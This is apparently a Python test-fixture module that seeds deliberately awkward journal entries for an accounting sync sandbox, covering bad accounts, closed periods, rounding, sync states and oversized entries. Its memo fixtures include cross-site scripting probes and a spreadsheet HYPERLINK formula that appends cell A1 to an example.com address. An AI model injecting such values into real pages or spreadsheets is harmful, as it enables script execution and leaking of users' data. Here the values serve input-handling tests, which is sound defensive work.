"""Journal entries that are awkward on purpose, each named by its case.

What is valid about them is not said here: `sandbox.seed.judge` reads that from the content.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from decimal import Decimal

from sandbox.seed.chart import JOB_COSTS
from sandbox.seed.drafting import Desk, Draft
from sandbox.seed.plain import draft
from sandbox.seed.tenant import BusinessUnit, Reference

DAY = date(2026, 10, 13)
THIRD = "33.3333333333333333333"
MEMOS = {
    "unicode_memo": "Klimaanlage repariert \u2013 Ørsted 東京 🔧 \u202eabc",
    "html_memo": '<script>alert("x")</script><img src=x onerror=alert(1)> &amp; "quoted"',
    "formula_memo": '=HYPERLINK("http://example.com?"&A1,"click")',
    "multiline_memo": "first line\r\nsecond line\ttabbed\n\n  third, with comma; and 'quotes'",
    "very_long_memo": "Replaced compressor; see work order. " * 140,
}


def _pair(
    desk: Desk,
    case: str,
    debit: str = "6010",
    credit: str = "1250",
    amount: Decimal | str | None = None,
    *,
    day: date = DAY,
    memo: str | None = None,
    units: tuple[BusinessUnit | None, BusinessUnit | None] | None = None,
) -> Draft:
    """Two lines on two accounts."""
    unit = desk.unit()
    first, second = units or (unit, unit)
    value = Decimal(amount) if amount is not None else desk.money()
    transaction = desk.transaction("Manual", day)
    lines = (
        desk.line(debit, value, unit=first, memo=memo, transaction=transaction),
        desk.line(credit, credit=value, unit=second, memo=memo, transaction=transaction),
    )
    return Draft(case, day, lines)


def _money_pair(desk: Desk, case: str, debits: list[str], credits: list[str]) -> Draft:
    """Money of many decimals: each debit on its own account, so that none are summed."""
    unit, transaction = desk.unit(), desk.transaction("Manual", DAY)
    lines = [
        desk.line(str(7001 + i), value, unit=unit, transaction=transaction)
        for i, value in enumerate(debits)
    ]
    lines += [
        desk.line(str(7101 + i), credit=value, unit=unit, transaction=transaction)
        for i, value in enumerate(credits)
    ]
    return Draft(case, DAY, tuple(lines))


def _accounts(desk: Desk) -> Iterator[Draft]:
    for number in ("6999", "6999", "6999", "8888", "8888", ""):
        yield _pair(desk, "account_not_mapped", number)
    yield _pair(desk, "account_inactive", "6900")
    yield _pair(desk, "account_inactive", "6900")
    yield _pair(desk, "account_not_postable", "6010", "4900")


def _dates(desk: Desk) -> Iterator[Draft]:
    for day in (date(2026, 2, 14), date(2026, 2, 28)):
        yield _pair(desk, "period_closed", day=day)
    for day in (date(2026, 3, 1), date(2026, 3, 10)):
        yield _pair(desk, "period_locked", day=day)
    for day in (date(2025, 12, 31), date(2025, 11, 30), date(2025, 6, 15)):
        yield _pair(desk, "before_go_live", day=day)
    yield _pair(desk, "on_go_live_day", day=date(2026, 1, 1))
    yield _pair(desk, "period_missing", day=date(2028, 1, 15))


def _amounts(desk: Desk) -> Iterator[Draft]:
    unit, other = desk.unit(), desk.transaction("Manual", DAY)
    yield _pair(desk, "zero_amount", amount="0")
    yield _pair(desk, "zero_amount", amount="0.0000000000000000000")
    yield _pair(desk, "zero_amount_when_rounded", amount="0.0010000000000000000")
    for _ in range(2):
        pair = _pair(desk, "zero_lines_among_others")
        zero = desk.line("6020", unit=None, transaction=other)
        zero = replace(zero, business_unit=pair.lines[0].business_unit)
        yield replace(pair, lines=(zero, *pair.lines, zero))
    for _ in range(2):
        pair = _pair(desk, "unbalanced_by_a_cent")
        cent = replace(pair.lines[1], credit=pair.lines[1].credit + Decimal("0.01"))
        yield replace(pair, lines=(pair.lines[0], cent))
    for debit, credit in (("6010", "6020"), ("1250", "6030")):
        value = desk.money()
        lines = (desk.line(debit, -value, unit=unit), desk.line(credit, value, unit=unit))
        yield Draft("negative_debit", DAY, lines)
    value = desk.money()
    lines = (
        desk.line("4000", credit=-value, unit=unit),
        desk.line("4030", credit=value, unit=unit),
    )
    yield Draft("negative_credit", DAY, lines)
    yield _pair(desk, "large_amount", amount="12345678.90")
    yield _money_pair(desk, "decimals_balanced", ["33.3333333333333333333"], [THIRD])
    yield _money_pair(
        desk, "decimals_balanced", ["10.0000000000000000001", "0.4999999999999999999"], ["10.50"]
    )
    yield _money_pair(
        desk, "decimals_unbalanced", [THIRD, THIRD, "33.3333333333333333334"], ["100"]
    )
    yield _money_pair(desk, "decimals_unbalanced", ["0.0040000000000000000"] * 5, ["0.02"])


def _texts(desk: Desk) -> Iterator[Draft]:
    for case, memo in MEMOS.items():
        yield _pair(desk, case, memo=memo)
    yield replace(_pair(desk, "html_name"), name='<b onmouseover="x">JE</b> & Co 東京')


def _sizes(desk: Desk) -> Iterator[Draft]:
    yield _long(desk, "lines_300", 300)
    yield Draft("no_lines", DAY, ())
    yield Draft("no_lines", date(2026, 9, 30), (), version_id=3)


def _long(desk: Desk, case: str, count: int) -> Draft:
    """An entry of `count` lines: one credit against all the others."""
    unit, transaction = desk.unit(), desk.transaction("GrossPayItem", DAY)
    amounts = [desk.money(1, 90) for _ in range(count - 1)]
    lines = [
        desk.line(str(JOB_COSTS[i % len(JOB_COSTS)]), a, unit=unit, transaction=transaction)
        for i, a in enumerate(amounts)
    ]
    lines.append(desk.line("1000", credit=sum(amounts), unit=unit, transaction=transaction))
    return Draft(case, DAY, tuple(lines))


def _states(desk: Desk) -> Iterator[Draft]:
    """Entries that ServiceTitan does not hold pending."""
    for state, count in (("Synced", 8), ("OutOfSync", 3), ("Error", 4), ("Excluded", 4)):
        for _ in range(count):
            entry = replace(draft(desk, case=f"status_{state}"), sync_status=state, version_id=2)
            if state == "Synced":
                entry = replace(entry, last_sync_version_id=2, message="Synced by an import")
            if state == "OutOfSync":
                entry = replace(entry, last_sync_version_id=1)
            if state == "Error":
                entry = replace(entry, message="Account 6900 inactive in NetSuite")
            yield entry


def _subsidiaries(desk: Desk) -> Iterator[Draft]:
    """Business units and subsidiaries of the OneWorld account."""
    for place in range(10):
        unit = desk.by_hand[place % len(desk.by_hand)]
        yield draft(desk, (unit,), "business_unit_not_mapped")
    yield _pair(desk, "business_unit_missing", units=(None, None))
    if len(desk.groups) < 2:
        return
    first, second = desk.groups[0][0], desk.groups[1][0]
    for _ in range(3):
        yield _pair(desk, "two_subsidiaries", units=(first, second))
    yield _pair(desk, "account_not_in_subsidiary", "6010", "4050", units=(first, first))
    yield _pair(desk, "account_not_in_subsidiary", "6010", "4060", units=(first, first))
    yield _pair(desk, "account_in_its_subsidiary", "6010", "4050", units=(second, second))


def _receivable(desk: Desk, case: str, customer: Reference | None) -> Draft:
    unit, amount = desk.unit(), desk.money()
    transaction = desk.transaction("Invoice", DAY)
    lines = (
        desk.line("1200", amount, unit=unit, customer=customer, transaction=transaction),
        desk.line("4000", credit=amount, unit=unit, customer=customer, transaction=transaction),
    )
    return Draft(case, DAY, lines)


def _summary_entities(desk: Desk) -> Iterator[Draft]:
    yield _receivable(desk, "receivable_in_summary", desk.customer())
    yield _receivable(desk, "receivable_in_summary", None)
    yield _pair(desk, "payable_in_summary", "6010", "2000")


def _payable(desk: Desk, case: str, vendor: Reference | None) -> Draft:
    pair = _pair(desk, case, "5000", "2000")
    return replace(pair, lines=(pair.lines[0], replace(pair.lines[1], vendor=vendor)))


def _entities(desk: Desk) -> Iterator[Draft]:
    """Customers and vendors of a detailed tenant."""
    for name, customer in desk.special.items():
        case = "merged_customer" if name.startswith("Merged") else f"customer_{name}"
        yield _receivable(desk, case, (customer.id, customer.name))
    yield _receivable(desk, "receivable_without_customer", None)
    yield _receivable(desk, "receivable_without_customer", None)
    yield _receivable(desk, "customer_deleted", (999_999_999, "Gone For Good"))
    yield _payable(desk, "payable_without_vendor", None)
    yield _payable(desk, "payable_with_vendor", (3301, "Ferguson Supply"))
    yield _long(desk, "lines_620", 620)
    yield _long(desk, "too_many_lines", 1002)


def drafts(desk: Desk, one_world: bool) -> list[Draft]:
    """Every awkward entry of one tenant."""
    made: list[Draft] = []
    for group in (_accounts, _dates, _amounts, _texts, _sizes, _states):
        made += group(desk)
    if one_world:
        made += _subsidiaries(desk)
    made += _entities(desk) if desk.detailed else _summary_entities(desk)
    return made
